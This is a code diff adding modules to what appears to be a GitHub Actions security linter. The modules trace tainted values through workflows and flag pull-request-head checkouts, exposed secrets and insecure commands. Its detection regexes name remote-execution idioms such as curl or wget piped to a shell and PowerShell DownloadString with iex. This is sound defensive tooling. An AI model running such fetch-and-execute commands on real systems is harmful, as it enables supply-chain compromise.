+const OUTPUT_NAME = /(?:^|[\s"'(])([A-Za-z_][\w.-]*)(=|<<)/;
+/**
+ * The values a script writes to step outputs or the job environment. A line that mentions
+ * `GITHUB_OUTPUT` (or `GITHUB_ENV`), or sits inside a `{ ... } >> "$GITHUB_OUTPUT"` group, writes each
+ * `name=` or `name<<DELIMITER` it starts (one per `;`/`&&`-separated command); the lines of a heredoc
+ * value that follow are attributed to the same name. Shell variables assigned earlier in the script
+ * are followed to their assignment.
+ */
+function shellWrites(script) {
+    const out = [];
+    const assigned = new Map();
+    let heredoc;
+    const all = lines(script);
+    const files = writtenFiles(all);
+    for (const [i, line] of all.entries()) {
+        if (heredoc && heredocEnd(line.text) === heredoc.delimiter) {
+            heredoc = undefined;
+            continue;
+        }
+        const sources = sourcesOf(line, assigned);
+        const file = files[i];
+        if (file) {
+            const writes = commands(line).flatMap((command) => {
+                const m = OUTPUT_NAME.exec(command.text.replace(/>>.*$/, ''));
+                if (!m)
+                    return [];
+                const write = { file, name: m[1], ...sourcesOf(command, assigned) };
+                if (m[2] === '<<') {
+                    const delimiter = /<<\s*['"]?([\w-]+)/.exec(command.text.slice(m.index))?.[1] ?? 'EOF';
+                    heredoc = { write, delimiter };
+                }
+                return [write];
+            });
+            out.push(...writes);
+            if (writes.length > 0)
+                continue;
+            if (heredoc) {
+                heredoc.write.ranges.push(...sources.ranges);
+                heredoc.write.envVars.push(...sources.envVars);
+                continue;
+            }
+        }
+        const a = ASSIGNMENT.exec(line.text);
+        if (a)
+            assigned.set(a[1], sources);
+    }
+    return out;
+}
+/** The `;`- and `&&`-separated commands of a line, with their offsets. */
+function commands(line) {
+    const out = [];
+    let from = 0;
+    for (const m of line.text.matchAll(/;|&&/g)) {
+        out.push({ start: line.start + from, end: line.start + m.index, text: line.text.slice(from, m.index) });
+        from = m.index + m[0].length;
+    }
+    out.push({ start: line.start + from, end: line.end, text: line.text.slice(from) });
+    return out;
+}
+/** Which file each line writes to: by naming it, or as part of a `{ ... } >> file` group. */
+function writtenFiles(all) {
+    const files = all.map((l) => /GITHUB_OUTPUT/.test(l.text) ? 'output' : /GITHUB_ENV/.test(l.text) ? 'env' : undefined);
+    const open = [];
+    for (const [i, l] of all.entries()) {
+        if (/^\s*\{\s*(?:#.*)?$/.test(l.text))
+            open.push(i);
+        const close = /^\s*\}\s*>>?\s*["']?\$\{?GITHUB_(OUTPUT|ENV)\b/.exec(l.text);
+        if (!close)
+            continue;
+        const start = open.pop();
+        if (start === undefined)
+            continue;
+        for (let k = start + 1; k < i; k++)
+            files[k] ??= close[1] === 'OUTPUT' ? 'output' : 'env';
+    }
+    return files;
+}
+/** The word a heredoc delimiter line starts with (`EOF`, `echo "EOF" >> ...`). */
+function heredocEnd(text) {
+    return text
+        .trim()
+        .replace(/^echo\s+|["']/g, '')
+        .split(/\s/)[0];
+}
+function sourcesOf(line, assigned) {
+    const ranges = [[line.start, line.end]];
+    const envVars = [];
+    for (const m of line.text.matchAll(VAR_REF)) {
+        const name = m[1];
+        const known = assigned.get(name);
+        if (known) {
+            ranges.push(...known.ranges);
+            envVars.push(...known.envVars);
+        }
+        else
+            envVars.push(name);
+    }
+    return { ranges, envVars };
+}
+const FETCH = '(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)';
+const RUNNER = String.raw `(?:sudo\s+(?:-\S+\s+){0,4})?(?:ba|z|da|k|fi)?sh|python[23]?|node|perl|ruby|php|pwsh|powershell|iex|Invoke-Expression`;
+/** Each pattern is linear-time: bounded, negated character classes and no nested quantifiers. */
+const REMOTE_EXECUTION = [
+    // curl ... | sh, wget -O- ... | sudo bash, iwr ... | iex
+    new RegExp(String.raw `(?<![\w-])${FETCH}(?![\w-])[^|;&\n]{0,2000}\|\s*(?:${RUNNER})(?![\w.-])`, 'gi'),
+    // bash <(curl ...), sh -c "$(curl ...)", eval "$(wget -qO- ...)", iex (iwr ...)
+    new RegExp(String.raw `(?<![\w-])(?:(?:ba|z)?sh\s+(?:-\w+\s+){0,3}<\(|(?:(?:ba|z)?sh\s+-c|eval|source|\.)\s+["']?\$\(|(?:iex|Invoke-Expression)\s*\(\s*)\s*${FETCH}(?![\w-])[^)\n]{0,500}`, 'gi'),
+    // iex ((New-Object Net.WebClient).DownloadString('...'))
+    /(?<![\w-])(?:iex|Invoke-Expression)\s*\(?\s*\(?\s*New-Object\s+(?:System\.)?Net\.WebClient\s*\)?\s*\.DownloadString/gi,
+];
+/** `curl | sh` and its relatives in a script, at their offsets. */
+function remoteExecutions(script) {
+    const joined = shell_joinContinuations(script);
+    const out = [];
+    for (const re of REMOTE_EXECUTION) {
+        re.lastIndex = 0;
+        for (const m of joined.matchAll(re)) {
+            const start = m.index;
+            if (out.some((o) => start < o.end && o.start < start + m[0].length))
+                continue;
+            out.push({ start, end: start + m[0].length, text: m[0].replace(/\s+/g, ' ') });
+        }
+    }
+    return out.sort((a, b) => a.start - b.start);
+}
+/** Commands in a script that fetch or check out a pull request's head. */
+function headCheckouts(script) {
+    const joined = shell_joinContinuations(script);
+    const out = [];
+    const re = /(?<![\w-])(?:gh\s+pr\s+checkout|git\s+(?:-c\s+\S+\s+){0,4}(?:fetch|pull)\s[^\n;&|]{0,500}?(?:refs\/)?pull\/[^\s/]{1,200}\/(?:head|merge))(?![\w-])/g;
+    for (const m of joined.matchAll(re)) {
+        out.push({ start: m.index, end: m.index + m[0].length, text: m[0].replace(/\s+/g, ' ') });
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/dataflow.js
+
+
+
+
+
+
+/** Input types whose values cannot carry text. */
+const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment']);
+const dataflow_MAX_DEPTH = 8;
+/** Actions whose outputs carry text from the pull request or its author (output name, or `*`). */
+const TAINTED_OUTPUTS = {
+    'tj-actions/changed-files': ['*'],
+    'tj-actions/branch-names': ['*'],
+    'peter-evans/find-comment': ['comment-body'],
+    'xt0rted/pull-request-comment-branch': ['head_ref', 'head_sha'],
+    'octokit/request-action': ['data'],
+};
+/**
+ * Follows expression values through a repository's workflows: `env:` at every level (and values
+ * written to `$GITHUB_ENV`), step outputs written by scripts or by actions known to echo pull request
+ * data, job outputs (`needs.*.outputs`), static and computed matrices, and `inputs.*` of reusable
+ * workflows and local actions from the callers in the same repository. `classify` decides which
+ * contexts are sources, so one engine serves template injection and head-checkout detection.
+ */
+class Dataflow {
+    workspace;
+    classify;
+    cache = new Map();
+    active = new Set();
+    constructor(workspace, classify) {
+        this.workspace = workspace;
+        this.classify = classify;
+    }
+    /** Every source value an expression can expand to, with the reference it enters through. */
+    flows(node, inner, scope, depth = 0) {
+        return node ? this.evaluate(node, inner, scope, depth) : [];
+    }
+    evaluate(node, inner, scope, depth) {
+        switch (node.kind) {
+            case 'literal':
+            case 'not':
+            case 'compare':
+                // Literals, negations and comparisons produce constants and booleans.
+                return [];
+            case 'ref':
+                return this.resolve(node, inner.slice(node.start, node.end), scope, depth).map((r) => ({
+                    ...r,
+                    ref: node,
+                }));
+            case 'and': {
+                // `a && b` is `b` unless `a` is falsy ('', 0, false, null): only the last operand can be text.
+                const last = node.args[node.args.length - 1];
+                return last ? this.evaluate(last, inner, scope, depth) : [];
+            }
+            case 'or':
+                return node.args.flatMap((a) => this.evaluate(a, inner, scope, depth));
+            case 'index':
+                return this.evaluate(node.target, inner, scope, depth).map((f) => ({ ...f, collection: false }));
+            case 'call': {
+                const args = node.args.map((a) => this.evaluate(a, inner, scope, depth));
+                const scalar = (fs) => (fs ?? []).filter((f) => !f.collection);
+                switch (node.name) {
+                    case 'tojson':
+                    case 'fromjson':
+                        return (args[0] ?? []).map((f) => ({ ...f, collection: false }));
+                    case 'join':
+                        return [...(args[0] ?? []).map((f) => ({ ...f, collection: false })), ...scalar(args[1])];
+                    case 'format':
+                        return args.flatMap(scalar);
+                    case 'case':
+                        return args.flatMap((fs, i) => (i % 2 === 1 || i === args.length - 1 ? fs : []));
+                    case 'contains':
+                    case 'startswith':
+                    case 'endswith':
+                    case 'hashfiles':
+                    case 'success':
+                    case 'always':
+                    case 'failure':
+                    case 'cancelled':
+                        return [];
+                    default:
+                        return args.flat();
+                }
+            }
+        }
+    }
+    resolve(ref, text, scope, depth) {
+        if (depth > dataflow_MAX_DEPTH)
+            return [];
+        const key = `${scope.source.path}\u0000${scope.job?.id ?? ''}\u0000${scope.stepIndex ?? ''}\u0000${scope.level}\u0000${ref.path.join('.')}`;
+        const cached = this.cache.get(key);
+        if (cached)
+            return cached;
+        if (this.active.has(key))
+            return [];
+        this.active.add(key);
+        const out = this.lookup(ref.path, text, scope, depth);
+        this.active.delete(key);
+        this.cache.set(key, out);
+        return out;
+    }
+    lookup(path, text, scope, depth) {
+        const [root, a, b, c] = path;
+        switch (root) {
+            case 'github':
+                if (a === 'event' && b === 'inputs' && c !== undefined)
+                    return this.input(c, scope, depth);
+                return this.source(path, text);
+            case 'env':
+                return a === undefined ? [] : this.env(a, scope, depth);
+            case 'steps':
+                return a !== undefined && b === 'outputs' && c !== undefined
+                    ? this.stepOutput(a, c, scope, depth)
+                    : [];
+            case 'needs':
+            case 'jobs':
+                return a !== undefined && b === 'outputs' && c !== undefined
+                    ? this.jobOutput(a, c, scope, depth)
+                    : [];
+            case 'inputs':
+                return a === undefined ? [] : this.input(a, scope, depth);
+            case 'matrix':
+                return a === undefined ? [] : this.matrix(a, scope, depth);
+            default:
+                // secrets, vars, runner, job, strategy: not controlled by outsiders.
+                return [];
+        }
+    }
+    source(path, text) {
+        const c = this.classify(path);
+        return c ? [{ origin: { text, capability: c.capability, via: [] }, collection: c.collection }] : [];
+    }
+    /** Flows of every expression in one string value, through a hop. */
+    value(scope, pointer, hop, depth, under = false) {
+        const list = under
+            ? expressionsUnder(this.workspace, scope.source, pointer)
+            : expressionsAt(this.workspace, scope.source, pointer);
+        return list.flatMap((e) => (e.parsed.ok ? this.flows(e.parsed.node, e.inner, scope, depth) : []).map((f) => ({
+            origin: { ...f.origin, via: [hop, ...f.origin.via] },
+            // Values stored in env, outputs and inputs are strings.
+            collection: false,
+        })));
+    }
+    hop(text, source, node) {
+        return { text, location: locationFromSpan(source.path, node.span) };
+    }
+    env(name, scope, depth) {
+        const { source, job } = scope;
+        const step = scope.stepIndex !== undefined ? this.steps(scope)[scope.stepIndex] : undefined;
+        const levels = [];
+        if (scope.level === 'step')
+            levels.push([entry(step?.env, name), 'job']);
+        if (scope.level !== 'workflow' && job)
+            levels.push([entry(job.env, name), 'workflow']);
+        if (scope.level !== 'workflow' && source.kind === 'workflow')
+            levels.push([entry(source.env, name), 'workflow']);
+        const out = [];
+        // The innermost definition wins; `env:` values see only the levels above their own.
+        const found = levels.find(([e]) => e !== undefined);
+        if (found?.[0] && typeof found[0][1].value === 'string') {
+            const [[key, node], level] = found;
+            const inner = { ...scope, level: level === 'job' && job ? 'job' : 'workflow' };
+            out.push(...this.value(inner, node.pointer, this.hop(`env.${key}`, source, node), depth + 1));
+        }
+        // Values written to $GITHUB_ENV by earlier steps of the same job.
+        for (const [i, s] of this.steps(scope).entries()) {
+            if (scope.stepIndex === undefined || i >= scope.stepIndex || !s.run)
+                continue;
+            for (const w of this.writes(source, s)) {
+                if (w.file === 'env' && w.name.toLowerCase() === name)
+                    out.push(...this.written(w, s, i, scope, `env.${w.name}`, depth));
+            }
+        }
+        return out;
+    }
+    steps(scope) {
+        return scope.job?.steps ?? (scope.source.kind === 'action' ? scope.source.steps : []);
+    }
+    writes(source, step) {
+        const run = step.run;
+        return this.workspace.memo('shell-writes', `${source.path}\u0000${run.pointer}`, () => shellWrites(run.value));
+    }
+    /** Flows into a value a script wrote: the expressions on its lines and the env vars it read. */
+    written(w, step, index, scope, text, depth) {
+        const run = step.run;
+        const first = w.ranges[0];
+        const hop = {
+            text,
+            location: locatedText(this.workspace, scope.source.path, run).locate(first[0], first[1]),
+        };
+        const stepScope = { ...scope, stepIndex: index, level: 'step' };
+        const out = [];
+        for (const e of expressionsAt(this.workspace, scope.source, run.pointer)) {
+            const end = e.start + e.raw.length;
+            if (!w.ranges.some(([s, t]) => e.start < t && s < end) || !e.parsed.ok)
+                continue;
+            for (const f of this.flows(e.parsed.node, e.inner, stepScope, depth + 1)) {
+                if (!f.collection)
+                    out.push({ origin: { ...f.origin, via: [hop, ...f.origin.via] }, collection: false });
+            }
+        }
+        for (const name of new Set(w.envVars)) {
+            for (const r of this.env(name.toLowerCase(), stepScope, depth + 1))
+                out.push({ ...r, origin: { ...r.origin, via: [hop, ...r.origin.via] } });
+        }
+        return out;
+    }
+    stepOutput(id, name, scope, depth) {
+        const steps = this.steps(scope);
+        const index = steps.findIndex((s) => typeof s.id?.value === 'string' && s.id.value.toLowerCase() === id);
+        const step = steps[index];
+        if (!step || (scope.stepIndex !== undefined && index >= scope.stepIndex))
+            return [];
+        const text = `steps.${step.id.value}.outputs.${name}`;
+        if (step.uses) {
+            const ref = parseUses(step.uses.value);
+            if (ref.kind !== 'repository')
+                return [];
+            const outputs = TAINTED_OUTPUTS[`${ref.owner}/${ref.repo}`.toLowerCase()];
+            if (!outputs?.some((o) => o === '*' || o === name))
+                return [];
+            const origin = {
+                text: `${text} (${ref.owner}/${ref.repo})`,
+                capability: 'arbitrary',
+                via: [],
+            };
+            return [{ origin, collection: false }];
+        }
+        if (!step.run)
+            return [];
+        return this.writes(scope.source, step)
+            .filter((w) => w.file === 'output' && w.name.toLowerCase() === name)
+            .flatMap((w) => this.written(w, step, index, scope, text, depth + 1));
+    }
+    jobOutput(id, name, scope, depth) {
+        if (scope.source.kind !== 'workflow')
+            return [];
+        const job = scope.source.jobs.find((j) => j.id.toLowerCase() === id);
+        const entry = job && [...(job.outputs?.entries ?? [])].find(([k]) => k.toLowerCase() === name);
+        if (!job || !entry)
+            return [];
+        const hop = this.hop(`needs.${job.id}.outputs.${entry[0]}`, scope.source, entry[1]);
+        return this.value({ source: scope.source, job, level: 'job' }, entry[1].pointer, hop, depth + 1);
+    }
+    input(name, scope, depth) {
+        const { source } = scope;
+        const declared = declaredInputs(source, name);
+        if (declared.types.length > 0 && declared.types.every((t) => SAFE_INPUT_TYPES.has(t)))
+            return [];
+        const out = [];
+        for (const d of declared.defaults) {
+            out.push(...this.value({ source, level: 'workflow' }, d.pointer, this.hop(`inputs.${name}`, source, d), depth + 1));
+        }
+        for (const caller of localCallers(this.workspace, source.path)) {
+            const entry = [...(caller.with?.entries ?? [])].find(([k]) => k.toLowerCase() === name);
+            if (!entry)
+                continue;
+            const hop = this.hop(`inputs.${entry[0]}`, caller.source, entry[1]);
+            out.push(...this.value(callerScope(caller), entry[1].pointer, hop, depth + 1));
+        }
+        return out;
+    }
+    matrix(key, scope, depth) {
+        const m = scope.job?.matrix;
+        if (!m)
+            return [];
+        const jobScope = { source: scope.source, job: scope.job, level: 'job' };
+        const hop = this.hop(`matrix.${key}`, scope.source, m);
+        if (typeof m.value === 'string')
+            return this.value(jobScope, m.pointer, hop, depth + 1);
+        if (typeof m.value !== 'object' || m.value === null || Array.isArray(m.value))
+            return [];
+        const pointers = matrixPointers(m.pointer, m.value, key);
+        return pointers.flatMap((p) => this.value(jobScope, p, hop, depth + 1, true));
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/dangerous-triggers.js
+
+
+
+
+
+
+
+
+
+/**
+ * `pull_request_target` and `workflow_run` run in the base repository with its secrets and a
+ * writable token, on events an outsider can cause. Checking out and building the pull request's
+ * code there ("pwn request") hands those privileges to the pull request: critical, reported at the
+ * ref that names the head (`actions/checkout` `ref:`/`repository:`, `gh pr checkout`, `git fetch
+ * .../pull/N/head`, followed through `env:` and outputs). `issue_comment` workflows that check out
+ * the pull request are reported the same way. A job whose `if:` admits only same-repository pull
+ * requests (or, for comments, only members) is not. A privileged trigger without such a checkout is
+ * informational, at the trigger.
+ */
+const workflowDangerousTriggers = defineEvaluator({
+    kind: 'workflow.dangerous-triggers',
+    summary: 'pull_request_target / workflow_run (and issue_comment) workflows that check out or run the pull request head (critical); such triggers without a checkout (info).',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        const sources = workflowSources(workspace);
+        const flow = new Dataflow(workspace, classifyHeadRef);
+        walkWorkflows(sources, {
+            workflow(workflow) {
+                const events = eventsOf(workflow);
+                const privileged = ['pull_request_target', 'workflow_run', 'issue_comment'].filter((e) => events.has(e));
+                if (privileged.length === 0)
+                    return;
+                const untrustedRun = privileged.filter((e) => e !== 'workflow_run' || upstreamRunsOnPullRequests(workflow, sources));
+                let critical = 0;
+                if (untrustedRun.length > 0) {
+                    for (const job of workflow.jobs) {
+                        if (guarded(job, events))
+                            continue;
+                        for (const step of job.steps) {
+                            for (const hit of headCheckoutsOf(workspace, flow, workflow, job, step)) {
+                                critical += 1;
+                                findings.push({
+                                    message: `Job "${job.id}" runs on ${untrustedRun.join(', ')} with the base repository's secrets and a ` +
+                                        `writable token, and checks out the pull request's code (${hit.what}); any build script, ` +
+                                        'test or action in that code runs with those privileges.',
+                                    location: hit.location,
+                                    key: `${job.id}/${stepLabel(step)}/${hit.what}`,
+                                });
+                            }
+                        }
+                    }
+                }
+                if (critical > 0)
+                    return;
+                for (const trigger of workflow.on?.events ?? []) {
+                    if (trigger.event !== 'pull_request_target' && trigger.event !== 'workflow_run')
+                        continue;
+                    findings.push({
+                        message: `"${trigger.event}" runs with the base repository's secrets and a writable token on events that ` +
+                            'outsiders can cause. No job here runs untrusted pull request code (no unguarded checkout of ' +
+                            'its head); keep it that way, and treat every value from the event (titles, branch names, artifacts) as untrusted.',
+                        location: locationFromSpan(workflow.path, trigger.span),
+                        key: `trigger:${trigger.event}`,
+                        severity: 'info',
+                    });
+                }
+            },
+        });
+        return findings;
+    },
+});
+/** A job condition that admits only pull requests from this repository, or only trusted commenters. */
+function guarded(job, events) {
+    const cond = conditionOf(job).replace(/\s+/g, ' ');
+    if (/head\.repo\.full_name ?== ?github\.repository\b|github\.repository ?== ?github\.event\.pull_request\.head\.repo\.full_name/.test(cond))
+        return true;
+    if (/head_repository\.full_name ?== ?github\.repository\b|github\.repository ?== ?github\.event\.workflow_run\.head_repository\.full_name/.test(cond))
+        return true;
+    if (/head\.repo\.fork ?== ?false|!\s?github\.event\.pull_request\.head\.repo\.fork\b/.test(cond))
+        return true;
+    return events.has('issue_comment') && !events.has('pull_request_target') && /author_association/.test(cond);
+}
+function headCheckoutsOf(workspace, flow, workflow, job, step) {
+    const scope = { source: workflow, job, stepIndex: step.index, level: 'step' };
+    const hits = [];
+    if (actionOf(step.uses) === 'actions/checkout') {
+        for (const name of ['ref', 'repository']) {
+            const node = input(step, name);
+            if (!node || typeof node.value !== 'string')
+                continue;
+            for (const e of expressionsAt(workspace, workflow, node.pointer)) {
+                if (!e.parsed.ok)
+                    continue;
+                const f = flow.flows(e.parsed.node, e.inner, scope).find((x) => !x.collection);
+                if (f)
+                    hits.push({ what: `${name}: ${e.raw}`, location: e.locate(f.ref.start, f.ref.end) });
+            }
+            if (hits.length === 0 && /(?:^|\/)pull\/[^/]+\/(?:head|merge)$/.test(node.value.trim())) {
+                hits.push({
+                    what: `${name}: ${node.value.trim()}`,
+                    location: locationFromSpan(workflow.path, node.span),
+                });
+            }
+        }
+        return hits.slice(0, 1);
+    }
+    if (!step.run)
+        return hits;
+    const text = locatedText(workspace, workflow.path, step.run);
+    for (const c of headCheckouts(step.run.value))
+        hits.push({ what: c.text, location: text.locate(c.start, c.end) });
+    if (hits.length > 0)
+        return hits;
+    // `git checkout ${{ github.event.pull_request.head.sha }}` and friends, line by line.
+    const script = shell_joinContinuations(step.run.value);
+    let at = 0;
+    for (const line of script.split('\n')) {
+        if (/\bgit\s+(?:-c\s+\S+\s+)*(?:checkout|switch|fetch|reset|pull|clone|worktree)\b/.test(line)) {
+            for (const span of findExpressions(line)) {
+                const parsed = parseExpression(span.inner);
+                if (!parsed.ok)
+                    continue;
+                const f = flow.flows(parsed.node, span.inner, scope).find((x) => !x.collection);
+                if (!f)
+                    continue;
+                const from = at + span.innerStart + f.ref.start;
+                hits.push({
+                    what: line.trim().replace(/\s+/g, ' '),
+                    location: text.locate(from, at + span.innerStart + f.ref.end),
+                });
+                break;
+            }
+        }
+        at += line.length + 1;
+    }
+    return hits;
+}
+/**
+ * Whether a `workflow_run` workflow can be triggered by a run of pull request code: true unless every
+ * workflow it names is found in the repository and none of them runs on pull requests.
+ */
+function upstreamRunsOnPullRequests(workflow, sources) {
+    const config = workflow.on?.events.find((e) => e.event === 'workflow_run')?.config?.value;
+    const names = Array.isArray(config?.workflows) ? config.workflows.filter((n) => typeof n === 'string') : [];
+    if (names.length === 0)
+        return true;
+    return names.some((name) => {
+        const upstream = sources.find((s) => s.kind === 'workflow' &&
+            (s.name?.value === name || (s.name === undefined && s.path.replace(/^.*\//, '') === name)));
+        return !upstream || [...eventsOf(upstream)].some((e) => PR_EVENTS.has(e));
+    });
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/deploy-environment.js
+
+
+
+
+/**
+ * Jobs that deploy to production should name a GitHub `environment:`: it is what lets required
+ * reviewers, wait timers, branch restrictions and environment-scoped secrets gate the change, and
+ * it records each deployment. A job is taken to deploy to production when it releases to a public
+ * target (GitHub Pages, a package registry, a `--prod` deploy), or when it deploys (by action, command
+ * or its id/name) and its id, name, steps, inputs or env name production. Reported at the job's key.
+ */
+const workflowDeployEnvironment = defineEvaluator({
+    kind: 'workflow.deploy-environment',
+    summary: 'Jobs that deploy to production (or publish a release) without a GitHub environment.',
+    schema: {
+        type: 'object',
+        additionalProperties: false,
+        properties: {
+            production: {
+                type: 'string',
+                format: 'regex',
+                default: '(?<![a-z])(?:prod|production|prd|live)(?![a-z])',
+            },
+            deployActions: { type: 'array', items: { type: 'string', minLength: 1 }, default: [] },
+            deployCommands: {
+                type: 'array',
+                items: { type: 'string', minLength: 1, format: 'regex' },
+                default: [],
+            },
+            releaseActions: { type: 'array', items: { type: 'string', minLength: 1 }, default: [] },
+            releaseCommands: {
+                type: 'array',
+                items: { type: 'string', minLength: 1, format: 'regex' },
+                default: [],
+            },
+        },
+    },
+    evaluate({ options, workspace }) {
+        const production = new RegExp(options.production ?? '(?<![a-z])(?:prod|production)(?![a-z])', 'i');
+        const deployAction = shared_globMatcher(options.deployActions ?? []);
+        const releaseAction = shared_globMatcher(options.releaseActions ?? []);
+        const deployCommands = (options.deployCommands ?? []).map((c) => new RegExp(c, 'i'));
+        const releaseCommands = (options.releaseCommands ?? []).map((c) => new RegExp(c, 'i'));
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            job(job, workflow) {
+                if (job.environment || job.uses)
+                    return;
+                const release = job.steps.map((s) => matches(s, releaseAction, releaseCommands)).find(Boolean);
+                let why = release ? `it ${release}` : undefined;
+                if (!why) {
+                    const deploy = job.steps.map((s) => matches(s, deployAction, deployCommands)).find(Boolean) ??
+                        (/deploy/i.test(`${job.id} ${String(job.name?.value ?? '')}`)
+                            ? 'is named as a deployment'
+                            : undefined);
+                    const prod = deploy ? productionMention(job, production) : undefined;
+                    if (deploy && prod)
+                        why = `it ${deploy} and ${prod}`;
+                }
+                if (!why)
+                    return;
+                findings.push({
+                    message: `Job "${job.id}" deploys to production (${why}) without "environment:", so no required reviewer, ` +
+                        'wait timer or branch rule can gate it and it is not recorded as a deployment. Add "environment: production" ' +
+                        'and configure its protection rules.',
+                    location: locationFromSpan(workflow.path, job.span, true),
+                    key: job.id,
+                });
+            },
+        });
+        return findings;
+    },
+});
+function matches(step, action, commands) {
+    const path = actionPathOf(step.uses);
+    if (path && action(path))
+        return `uses ${step.uses.value.replace(/@.*$/, '')}`;
+    const m = step.run && commands.map((re) => re.exec(step.run.value)).find(Boolean);
+    return m ? `runs "${m[0].trim()}"` : undefined;
+}
+/** Where the job names production, if it does. */
+function productionMention(job, production) {
+    const texts = [
+        ['its id', job.id],
+        ['its name', job.name?.value],
+        ...[...(job.env?.entries ?? [])].map(([k, v]) => [`env ${k}`, v.value]),
+    ];
+    for (const s of job.steps) {
+        texts.push(['a step name', s.name?.value], ['a script', s.run?.value]);
+        for (const [k, v] of s.with?.entries ?? [])
+            texts.push([`input ${k}`, v.value]);
+        for (const [k, v] of s.env?.entries ?? [])
+            texts.push([`env ${k}`, v.value]);
+    }
+    const hit = texts.find(([, v]) => typeof v === 'string' && production.test(v));
+    return hit ? `${hit[0]} names production` : undefined;
+}
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/insecure-commands.js
+
+
+
+
+
+
+const NAME = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';
+/**
+ * `ACTIONS_ALLOW_UNSECURE_COMMANDS` re-enables the `set-env` and `add-path` workflow commands, which
+ * let anything a step prints (a test name, a log line from a dependency) set environment variables
+ * such as `NODE_OPTIONS` or `LD_PRELOAD` for later steps. Reported where it is set to anything but
+ * false: in an `env:` (workflow, job, step) or written to `$GITHUB_ENV` by a script.
+ */
+const workflowInsecureCommands = defineEvaluator({
+    kind: 'workflow.insecure-commands',
+    summary: 'ACTIONS_ALLOW_UNSECURE_COMMANDS re-enabling the set-env and add-path workflow commands.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        const check = (path, env, where, key = where) => {
+            for (const [name, node] of env?.entries ?? []) {
+                if (name.toUpperCase() !== NAME)
+                    continue;
+                const v = node.value;
+                if (v === false || v === null || (typeof v === 'string' && /^\s*(false|0|)\s*$/i.test(v)))
+                    continue;
+                findings.push({
+                    message: `${where} sets ${NAME}, which re-enables the deprecated set-env and add-path commands; any output of a step can then change the environment of later steps. Remove it and use $GITHUB_ENV / $GITHUB_PATH.`,
+                    location: locationFromSpan(path, { ...node.span, start: node.span.key ?? node.span.start }),
+                    key,
+                });
+            }
+        };
+        walkWorkflows(workflowSources(workspace), {
+            workflow: (w) => check(w.path, w.env, 'The workflow env'),
+            job: (j, w) => check(w.path, j.env, `Job "${j.id}"`),
+            step(step, source, job) {
+                const where = `Step ${step.index + 1}${job ? ` of job "${job.id}"` : ''}`;
+                const key = `${job?.id ?? ''}/${stepLabel(step)}`;
+                check(source.path, step.env, where, key);
+                if (!step.run?.value.includes(NAME))
+                    return;
+                for (const w of shellWrites(step.run.value)) {
+                    if (w.file !== 'env' || w.name !== NAME)
+                        continue;
+                    const [from, to] = w.ranges[0];
+                    const at = step.run.value.indexOf(NAME, from);
+                    findings.push({
+                        message: `${where} writes ${NAME} to $GITHUB_ENV, which re-enables the deprecated set-env and add-path commands for the rest of the job. Remove it.`,
+                        location: locatedText(workspace, source.path, step.run).locate(at === -1 || at >= to ? from : at, at === -1 || at >= to ? to : at + NAME.length),
+                        key: `${key}/GITHUB_ENV`,
+                    });
+                }
+            },
+        });
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/overprovisioned-secrets.js
+
+
+
+/**
+ * An expression that reads the whole `secrets` context (`toJSON(secrets)`) or indexes it with a
+ * computed name (`secrets[format('{0}_TOKEN', inputs.env)]`) makes the runner load every secret into
+ * the job, where one compromised step can read them all; GitHub also cannot tell which secrets the
+ * job needs. Reported at the reference to `secrets`.
+ */
+const workflowOverprovisionedSecrets = defineEvaluator({
+    kind: 'workflow.overprovisioned-secrets',
+    summary: 'Expressions that expose the whole secrets context (toJSON(secrets)) or index it dynamically.',
+    schema: { type: 'object', additionalProperties: false, properties: {} },
+    evaluate({ workspace }) {
+        const findings = [];
+        walkWorkflows(workflowSources(workspace), {
+            expression(expr) {
+                if (!expr.parsed.ok)
+                    return;
+                for (const ref of references(expr.parsed.node)) {
+                    if (ref.path[0] !== 'secrets')
+                        continue;
+                    // `secrets`, `secrets.*`: every secret; `secrets[<expression>]`: any secret.
+                    const whole = ref.path.length === 1 || ref.path[1] === '*';
+                    if (!whole && ref.path[1] !== '?')
+                        continue;
+                    const text = expr.inner.slice(ref.start, ref.end);
+                    findings.push({
+                        message: whole
+                            ? `"${expr.raw.trim()}" hands every secret to this job; name the secrets it needs one by one (secrets.NAME).`
+                            : `"${text}" selects a secret by a computed name, so every secret is loaded into the job; ` +
+                                'pass the one secret it needs explicitly.',
+                        location: expr.locate(ref.start, ref.end),
+                        key: `${expr.jobId ?? ''}/${expr.field.join('.')}/${expr.raw}`,
+                        ...(whole ? {} : { severity: 'medium' }),
+                    });
+                }
+            },
+        }, workspace);
+        return findings;
+    },
+});
+
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/token-use.js
+
+/**
+ * Whether a job can use its GITHUB_TOKEN for anything but reading the repository. Deliberately
+ * one-sided: a job is "read-only" only when every step is a script that neither names a token nor runs
+ * a command that writes to GitHub, or an action known to only read (checkout, setup-*, caches,
+ * artifacts). Any other action could use the token it receives by default, so it counts as a writer;
+ * this keeps "write scope not needed" findings free of false positives.
+ */
+/** Actions (owner/repo, or owner/repo/path) that never write to the repository through the token. */
+const READ_ONLY_ACTIONS = new Set([
+    'actions/checkout',
+    'actions/setup-node',
+    'actions/setup-python',
+    'actions/setup-go',
+    'actions/setup-java',
+    'actions/setup-dotnet',
+    'actions/cache',
+    'actions/cache/restore',
+    'actions/cache/save',
+    'actions/upload-artifact',
+    'actions/download-artifact',
+    'actions/dependency-review-action',
+    'ruby/setup-ruby',
+    'pnpm/action-setup',
+    'oven-sh/setup-bun',
+    'denoland/setup-deno',
+    'astral-sh/setup-uv',
+    'dtolnay/rust-toolchain',
+    'swatinem/rust-cache',
+    'docker/setup-buildx-action',
+    'docker/setup-qemu-action',
+    'hashicorp/setup-terraform',
+    'azure/setup-helm',
+    'azure/setup-kubectl',
+    'shivammathur/setup-php',
